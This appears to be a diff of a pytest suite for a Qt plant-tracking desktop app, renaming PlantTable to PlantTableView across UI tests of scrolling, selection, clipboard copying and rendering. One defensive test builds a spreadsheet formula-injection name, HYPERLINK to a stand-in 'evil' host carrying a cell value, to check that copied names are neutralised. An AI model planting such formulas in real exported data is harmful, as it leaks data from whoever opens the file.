@@ -31,7 +31,7 @@ if TYPE_CHECKING:
     from plantdesk.store import Store
     from plantdesk.ui.bridge import Bridge
     from plantdesk.ui.plants.browser import PlantBrowser
-    from plantdesk.ui.plants.table.view import PlantTable
+    from plantdesk.ui.plants.table.view import PlantTableView
     from plantdesk.ui.theme.theme import Theme
     from tests.ui.conftest import Adder
 
@@ -39,7 +39,7 @@ CONTROL = Qt.KeyboardModifier.ControlModifier
 
 
 @pytest.fixture
-def table(qtbot: QtBot, browser: PlantBrowser, store: Store, add: Adder) -> PlantTable:
+def table(qtbot: QtBot, browser: PlantBrowser, store: Store, add: Adder) -> PlantTableView:
     """The table with a hundred plants, the newest on top, and no signal of them pending."""
     add(*(f"Fern {number}" for number in range(1, 101)))
     browser.set_store(store)
@@ -48,25 +48,25 @@ def table(qtbot: QtBot, browser: PlantBrowser, store: Store, add: Adder) -> Plan
     return browser.table
 
 
-def visible_names(table: PlantTable) -> list[str]:
+def visible_names(table: PlantTableView) -> list[str]:
     last = table.rowAt(table.viewport().height() - 1)
     return [table.model().index(row, Column.NAME).data() for row in range(table.rowAt(0), last + 1)]
 
 
-def selected(table: PlantTable) -> list[int]:
+def selected(table: PlantTableView) -> list[int]:
     return list(table.selected_ids())
 
 
-def pill(table: PlantTable) -> QPushButton:
+def pill(table: PlantTableView) -> QPushButton:
     return next(each for each in table.window().findChildren(QPushButton) if "new plants" in each.toolTip())
 
 
-def click_row(table: PlantTable, row: int, modifier: Qt.KeyboardModifier = Qt.KeyboardModifier.NoModifier) -> None:
+def click_row(table: PlantTableView, row: int, modifier: Qt.KeyboardModifier = Qt.KeyboardModifier.NoModifier) -> None:
     place = table.visualRect(table.model().index(row, Column.NAME)).center()
     QTest.mouseClick(table.viewport(), Qt.MouseButton.LeftButton, modifier, place)
 
 
-def colors(table: PlantTable, row: int, column: Column) -> set[str]:
+def colors(table: PlantTableView, row: int, column: Column) -> set[str]:
     """The colours in a cell, as painted."""
     picture = table.viewport().grab(table.visualRect(table.model().index(row, column))).toImage()
     places = ((x, y) for x in range(picture.width()) for y in range(picture.height()))
@@ -76,13 +76,13 @@ def colors(table: PlantTable, row: int, column: Column) -> set[str]:
 # --- what stays ---------------------------------------------------------------------------------------------------
 
 
-def test_new_plants_stand_on_top_while_nobody_looks_elsewhere(qtbot: QtBot, table: PlantTable, add: Adder) -> None:
+def test_new_plants_stand_on_top_while_nobody_looks_elsewhere(qtbot: QtBot, table: PlantTableView, add: Adder) -> None:
     add("Aloe")
     qtbot.waitUntil(lambda: visible_names(table)[:2] == ["Aloe", "Fern 100"])
     assert not pill(table).isVisible()
 
 
-def test_nothing_moves_when_the_user_has_scrolled(qtbot: QtBot, table: PlantTable, add: Adder) -> None:
+def test_nothing_moves_when_the_user_has_scrolled(qtbot: QtBot, table: PlantTableView, add: Adder) -> None:
     table.verticalScrollBar().setValue(500)
     before = visible_names(table)
     add("Aloe", "Basil", "Cactus")
@@ -91,7 +91,7 @@ def test_nothing_moves_when_the_user_has_scrolled(qtbot: QtBot, table: PlantTabl
     assert pill(table).text() == "3 new plants"
 
 
-def test_nothing_moves_when_something_is_selected(qtbot: QtBot, table: PlantTable, add: Adder) -> None:
+def test_nothing_moves_when_something_is_selected(qtbot: QtBot, table: PlantTableView, add: Adder) -> None:
     click_row(table, 2)
     before = visible_names(table)
     add("Aloe")
@@ -102,7 +102,7 @@ def test_nothing_moves_when_something_is_selected(qtbot: QtBot, table: PlantTabl
 
 
 def test_the_pill_counts_all_rows_that_are_new_and_still_there(
-    qtbot: QtBot, table: PlantTable, store: Store, bridge: Bridge, add: Adder
+    qtbot: QtBot, table: PlantTableView, store: Store, bridge: Bridge, add: Adder
 ) -> None:
     table.verticalScrollBar().setValue(500)
     rows = add(*(f"Aloe {number}" for number in range(30)))
@@ -115,7 +115,7 @@ def test_the_pill_counts_all_rows_that_are_new_and_still_there(
 
 
 def test_the_pill_covers_nothing_and_is_in_the_accessibility_tree(
-    qtbot: QtBot, browser: PlantBrowser, table: PlantTable, add: Adder
+    qtbot: QtBot, browser: PlantBrowser, table: PlantTableView, add: Adder
 ) -> None:
     browser.resize(640, 400)
     browser.search_bar.set_tags_button(visible=True)
@@ -132,7 +132,7 @@ def test_the_pill_covers_nothing_and_is_in_the_accessibility_tree(
     assert "1 new plant" in names
 
 
-def test_a_click_on_the_pill_shows_the_new_plants(qtbot: QtBot, table: PlantTable, add: Adder) -> None:
+def test_a_click_on_the_pill_shows_the_new_plants(qtbot: QtBot, table: PlantTableView, add: Adder) -> None:
     table.verticalScrollBar().setValue(500)
     add("Aloe")
     qtbot.waitUntil(pill(table).isVisible)
@@ -141,7 +141,9 @@ def test_a_click_on_the_pill_shows_the_new_plants(qtbot: QtBot, table: PlantTabl
     assert not pill(table).isVisible()
 
 
-def test_the_pill_pressed_by_a_key_hands_the_focus_to_the_table(qtbot: QtBot, table: PlantTable, add: Adder) -> None:
+def test_the_pill_pressed_by_a_key_hands_the_focus_to_the_table(
+    qtbot: QtBot, table: PlantTableView, add: Adder
+) -> None:
     table.verticalScrollBar().setValue(500)
     add("Aloe")
     qtbot.waitUntil(pill(table).isVisible)
@@ -150,7 +152,7 @@ def test_the_pill_pressed_by_a_key_hands_the_focus_to_the_table(qtbot: QtBot, ta
     assert table.hasFocus()
 
 
-def test_the_current_row_stays_visible_when_the_table_gets_lower(qtbot: QtBot, table: PlantTable) -> None:
+def test_the_current_row_stays_visible_when_the_table_gets_lower(qtbot: QtBot, table: PlantTableView) -> None:
     row = table.rowAt(table.viewport().height() - 1) - 1
     click_row(table, row)
     browser = table.window()
@@ -161,7 +163,7 @@ def test_the_current_row_stays_visible_when_the_table_gets_lower(qtbot: QtBot, t
     assert table.verticalScrollBar().value() == 1000, "what the user scrolled away from stays away"
 
 
-def test_ctrl_home_shows_the_new_plants(qtbot: QtBot, table: PlantTable, add: Adder) -> None:
+def test_ctrl_home_shows_the_new_plants(qtbot: QtBot, table: PlantTableView, add: Adder) -> None:
     click_row(table, 5)
     add("Aloe")
     qtbot.waitUntil(pill(table).isVisible)
@@ -171,7 +173,7 @@ def test_ctrl_home_shows_the_new_plants(qtbot: QtBot, table: PlantTable, add: Ad
 
 
 @pytest.mark.parametrize("modifier", [Qt.KeyboardModifier.NoModifier, CONTROL])
-def test_home_and_end_go_to_the_first_and_the_last_row(table: PlantTable, modifier: Qt.KeyboardModifier) -> None:
+def test_home_and_end_go_to_the_first_and_the_last_row(table: PlantTableView, modifier: Qt.KeyboardModifier) -> None:
     click_row(table, 5)
     for key, row in ((Qt.Key.Key_End, 99), (Qt.Key.Key_Home, 0), (Qt.Key.Key_End, 99), (Qt.Key.Key_Home, 0)):
         QTest.keyClick(table, key, modifier)
@@ -181,7 +183,7 @@ def test_home_and_end_go_to_the_first_and_the_last_row(table: PlantTable, modifi
     assert selected(table) == [99]
 
 
-def test_with_shift_home_and_end_select_all_rows_up_to_there(table: PlantTable) -> None:
+def test_with_shift_home_and_end_select_all_rows_up_to_there(table: PlantTableView) -> None:
     click_row(table, 5)
     QTest.keyClick(table, Qt.Key.Key_End, Qt.KeyboardModifier.ShiftModifier)
     assert selected(table) == list(range(95, 0, -1))
@@ -198,7 +200,7 @@ def test_home_and_end_do_nothing_without_rows(qtbot: QtBot, browser: PlantBrowse
 
 
 def test_selection_and_current_row_stay_on_the_same_plants_in_every_order(
-    qtbot: QtBot, browser: PlantBrowser, table: PlantTable
+    qtbot: QtBot, browser: PlantBrowser, table: PlantTableView
 ) -> None:
     click_row(table, 2)
     click_row(table, 4, CONTROL)
@@ -210,7 +212,7 @@ def test_selection_and_current_row_stay_on_the_same_plants_in_every_order(
 
 
 def test_the_visible_rows_stay_when_all_rows_are_replaced(
-    qtbot: QtBot, browser: PlantBrowser, table: PlantTable, other_program: sqlite3.Connection
+    qtbot: QtBot, browser: PlantBrowser, table: PlantTableView, other_program: sqlite3.Connection
 ) -> None:
     click_row(table, 5)
     table.verticalScrollBar().setValue(707)
@@ -227,7 +229,7 @@ def test_the_visible_rows_stay_when_all_rows_are_replaced(
 # --- keys ---------------------------------------------------------------------------------------------------------
 
 
-def test_ctrl_a_selects_all_and_signals_the_number(qtbot: QtBot, table: PlantTable) -> None:
+def test_ctrl_a_selects_all_and_signals_the_number(qtbot: QtBot, table: PlantTableView) -> None:
     table.setFocus()
     with qtbot.waitSignal(table.selection_count_changed) as count_changed:
         QTest.keyClick(table, Qt.Key.Key_A, CONTROL)
@@ -255,7 +257,7 @@ def test_ctrl_a_also_selects_the_rows_that_are_still_being_read(
 
 
 def test_ctrl_a_costs_the_same_for_any_number_of_rows_with_a_screen_reader(
-    qtbot: QtBot, browser: PlantBrowser, table: PlantTable, monkeypatch: pytest.MonkeyPatch
+    qtbot: QtBot, browser: PlantBrowser, table: PlantTableView, monkeypatch: pytest.MonkeyPatch
 ) -> None:
     """Qt's own table lists every cell for assistive programs: 5 s for a hundred thousand rows."""
 
@@ -274,14 +276,14 @@ def test_ctrl_a_costs_the_same_for_any_number_of_rows_with_a_screen_reader(
     assert cost < 50 * cost_of_few
 
 
-def test_tab_leaves_the_table(browser: PlantBrowser, table: PlantTable) -> None:
+def test_tab_leaves_the_table(browser: PlantBrowser, table: PlantTableView) -> None:
     table.setFocus()
     QTest.keyClick(table, Qt.Key.Key_Tab)
     assert not table.hasFocus()
     assert browser.isVisible()
 
 
-def test_typing_a_letter_does_not_read_the_whole_table(table: PlantTable) -> None:
+def test_typing_a_letter_does_not_read_the_whole_table(table: PlantTableView) -> None:
     click_row(table, 3)
     QTest.keyClicks(table, "fern 9")
     assert table.currentIndex().row() == 3
@@ -289,7 +291,7 @@ def test_typing_a_letter_does_not_read_the_whole_table(table: PlantTable) -> Non
 
 @pytest.mark.parametrize("rows", [[0], [1, 3, 4]])
 def test_ctrl_c_copies_the_selected_rows_as_a_table(
-    qtbot: QtBot, browser: PlantBrowser, table: PlantTable, rows: list[int]
+    qtbot: QtBot, browser: PlantBrowser, table: PlantTableView, rows: list[int]
 ) -> None:
     for row in rows:
         click_row(table, row, CONTROL)
@@ -302,7 +304,7 @@ def test_ctrl_c_copies_the_selected_rows_as_a_table(
 
 
 def test_copied_names_keep_their_lines_inside_quotes(
-    qtbot: QtBot, browser: PlantBrowser, table: PlantTable, add: Adder
+    qtbot: QtBot, browser: PlantBrowser, table: PlantTableView, add: Adder
 ) -> None:
     add('two\nlines, a\ttab and a "quote"')
     qtbot.waitUntil(lambda: table.model().rowCount() == 101)
@@ -314,7 +316,7 @@ def test_copied_names_keep_their_lines_inside_quotes(
 
 @pytest.mark.parametrize("time", [-62_135_596_800_000, 253_402_300_799_999, -1000])
 def test_a_plant_is_copied_whatever_its_time(
-    qtbot: QtBot, browser: PlantBrowser, table: PlantTable, store: Store, time: int
+    qtbot: QtBot, browser: PlantBrowser, table: PlantTableView, store: Store, time: int
 ) -> None:
     with closing(sqlite3.connect(store.path, isolation_level=None)) as other:  # another program
         other.execute("UPDATE plant SET added_at = ? WHERE id = 100", (time,))
@@ -326,7 +328,7 @@ def test_a_plant_is_copied_whatever_its_time(
 
 @pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
 def test_no_copied_name_is_a_formula(
-    qtbot: QtBot, browser: PlantBrowser, table: PlantTable, store: Store, start: str
+    qtbot: QtBot, browser: PlantBrowser, table: PlantTableView, store: Store, start: str
 ) -> None:
     name = f'{start}HYPERLINK("http://evil/?"&B2)'
     store.add(new_plant({"id": -5, "name": name, "tag": "+1"}), FORM).result(10)
@@ -341,7 +343,7 @@ def test_no_copied_name_is_a_formula(
 
 
 def test_more_plants_than_a_clipboard_should_hold_are_refused(
-    qtbot: QtBot, browser: PlantBrowser, table: PlantTable, monkeypatch: pytest.MonkeyPatch
+    qtbot: QtBot, browser: PlantBrowser, table: PlantTableView, monkeypatch: pytest.MonkeyPatch
 ) -> None:
     monkeypatch.setattr("plantdesk.ui.plants.table.clipboard.MAX_ROWS", 99)
     QGuiApplication.clipboard().setText("before")
@@ -352,7 +354,7 @@ def test_more_plants_than_a_clipboard_should_hold_are_refused(
     assert QGuiApplication.clipboard().text() == "before"
 
 
-def test_a_click_on_a_heading_sorts(qtbot: QtBot, browser: PlantBrowser, table: PlantTable) -> None:
+def test_a_click_on_a_heading_sorts(qtbot: QtBot, browser: PlantBrowser, table: PlantTableView) -> None:
     header = table.horizontalHeader()
     place = QPoint(header.sectionViewportPosition(Column.ID) + 30, header.height() // 2)
     with qtbot.waitSignal(browser.model.rows_replaced):
@@ -363,14 +365,14 @@ def test_a_click_on_a_heading_sorts(qtbot: QtBot, browser: PlantBrowser, table: 
 # --- look ---------------------------------------------------------------------------------------------------------
 
 
-def test_compact_rows_are_lower(table: PlantTable, theme: Theme) -> None:
+def test_compact_rows_are_lower(table: PlantTableView, theme: Theme) -> None:
     assert table.rowHeight(0) == theme.metrics.row == 34
     table.set_compact(compact=True)
     assert table.rowHeight(0) == theme.metrics.compact_row == 28
 
 
 def test_columns_stay_where_they_are_when_the_scroll_bar_appears(
-    qtbot: QtBot, browser: PlantBrowser, table: PlantTable
+    qtbot: QtBot, browser: PlantBrowser, table: PlantTableView
 ) -> None:
     before = table.columnViewportPosition(Column.ADDED)
     browser.search_field.setText("Fern 100")
@@ -378,7 +380,7 @@ def test_columns_stay_where_they_are_when_the_scroll_bar_appears(
     assert table.columnViewportPosition(Column.ADDED) == before
 
 
-def test_less_important_columns_are_hidden_in_a_small_window(browser: PlantBrowser, table: PlantTable) -> None:
+def test_less_important_columns_are_hidden_in_a_small_window(browser: PlantBrowser, table: PlantTableView) -> None:
     assert table.isColumnHidden(Column.SOURCE), "all plants have the same source"
     table.columns.set_contents("100", has_sources=True)
     assert not table.isColumnHidden(Column.SOURCE)
@@ -387,7 +389,7 @@ def test_less_important_columns_are_hidden_in_a_small_window(browser: PlantBrows
     assert not table.isColumnHidden(Column.NAME)
 
 
-def test_a_tag_is_a_pill_and_no_tag_is_a_dash(qtbot: QtBot, table: PlantTable, add: Adder, theme: Theme) -> None:
+def test_a_tag_is_a_pill_and_no_tag_is_a_dash(qtbot: QtBot, table: PlantTableView, add: Adder, theme: Theme) -> None:
     add("Aloe", tag="kitchen")
     add("Basil", tag="")
     qtbot.waitUntil(lambda: visible_names(table)[:2] == ["Basil", "Aloe"])
@@ -397,7 +399,7 @@ def test_a_tag_is_a_pill_and_no_tag_is_a_dash(qtbot: QtBot, table: PlantTable, a
     assert {ground, theme.colors.border}.isdisjoint(colors(table, 2, Column.TAG))
 
 
-def test_the_id_column_is_as_wide_as_the_widest_id(table: PlantTable) -> None:
+def test_the_id_column_is_as_wide_as_the_widest_id(table: PlantTableView) -> None:
     table.columns.set_contents("100", has_sources=False)
     narrow = table.columnWidth(Column.ID)
     table.columns.set_contents("-9223372036854775808", has_sources=False)
@@ -406,7 +408,7 @@ def test_the_id_column_is_as_wide_as_the_widest_id(table: PlantTable) -> None:
 
 
 @pytest.mark.parametrize("scale", [1.1, 1.21, 1.33, 2])
-def test_larger_text_makes_room_for_the_ids(table: PlantTable, theme: Theme, scale: float) -> None:
+def test_larger_text_makes_room_for_the_ids(table: PlantTableView, theme: Theme, scale: float) -> None:
     table.columns.set_contents("1000000", has_sources=False)
     for each in (1.25, 1.0, scale):  # digits of some sizes are of equal width in whole pixels
         theme.set_text_scale(each)
@@ -416,7 +418,7 @@ def test_larger_text_makes_room_for_the_ids(table: PlantTable, theme: Theme, sca
 
 
 def test_only_the_row_of_an_edited_plant_is_painted_again(
-    qtbot: QtBot, browser: PlantBrowser, table: PlantTable
+    qtbot: QtBot, browser: PlantBrowser, table: PlantTableView
 ) -> None:
     table.setFocus()
     table.selectRow(2)
@@ -449,7 +451,7 @@ class _PaintedRegion(QObject):
         return False
 
 
-def test_the_row_under_the_pointer_is_highlighted_as_a_whole(table: PlantTable, theme: Theme) -> None:
+def test_the_row_under_the_pointer_is_highlighted_as_a_whole(table: PlantTableView, theme: Theme) -> None:
     colors_of = theme.colors
     hovered = mixed(colors_of.color("selection"), colors_of.color("surface"), 0.45).name().upper()
     QTest.mouseMove(table.viewport(), table.visualRect(table.model().index(2, Column.NAME)).center())
@@ -459,7 +461,7 @@ def test_the_row_under_the_pointer_is_highlighted_as_a_whole(table: PlantTable, 
 
 
 def test_a_new_row_is_tinted_for_two_seconds_and_marked_longer(
-    qtbot: QtBot, table: PlantTable, add: Adder, theme: Theme
+    qtbot: QtBot, table: PlantTableView, add: Adder, theme: Theme
 ) -> None:
     add("Aloe")
     qtbot.waitUntil(lambda: visible_names(table)[0] == "Aloe")
@@ -470,7 +472,7 @@ def test_a_new_row_is_tinted_for_two_seconds_and_marked_longer(
 
 
 def test_a_new_row_is_marked_wherever_the_order_puts_it(
-    qtbot: QtBot, browser: PlantBrowser, table: PlantTable, add: Adder, theme: Theme
+    qtbot: QtBot, browser: PlantBrowser, table: PlantTableView, add: Adder, theme: Theme
 ) -> None:
     with qtbot.waitSignal(browser.model.rows_replaced):
         browser.sort_by(Column.NAME, descending=False)
@@ -488,7 +490,7 @@ def _right_to_left(qapp: QApplication) -> Iterator[None]:
 
 
 @pytest.mark.usefixtures("_right_to_left")
-def test_rows_are_mirrored(qtbot: QtBot, table: PlantTable, add: Adder, theme: Theme) -> None:
+def test_rows_are_mirrored(qtbot: QtBot, table: PlantTableView, add: Adder, theme: Theme) -> None:
     add("Aloe", tag="kitchen")
     qtbot.waitUntil(lambda: visible_names(table)[0] == "Aloe")
     picture = table.viewport().grab().toImage()
@@ -500,14 +502,16 @@ def test_rows_are_mirrored(qtbot: QtBot, table: PlantTable, add: Adder, theme: T
 
 
 @pytest.mark.parametrize("name", ["", "   ", "\0", "\n\n", "x" * 1_000_000, "\u202etfel ot thgir"])
-def test_odd_names_are_painted_on_their_line(qtbot: QtBot, browser: PlantBrowser, table: PlantTable, name: str) -> None:
+def test_odd_names_are_painted_on_their_line(
+    qtbot: QtBot, browser: PlantBrowser, table: PlantTableView, name: str
+) -> None:
     browser.apply(Changes((PlantRow(2**63 - 1, name, "\n", 0, FORM),)))
     qtbot.waitUntil(lambda: table.model().rowCount() == 101)
     assert table.rowHeight(0) == 34
     assert len(colors(table, 0, Column.NAME)) > 3
 
 
-def test_the_sources_have_room_for_the_widest_of_them_up_to_a_width(qtbot: QtBot, table: PlantTable) -> None:
+def test_the_sources_have_room_for_the_widest_of_them_up_to_a_width(qtbot: QtBot, table: PlantTableView) -> None:
     table.columns.set_contents("100", has_sources=True)
     qtbot.waitUntil(lambda: not table.isColumnHidden(Column.SOURCE))
     before = table.columnWidth(Column.SOURCE)
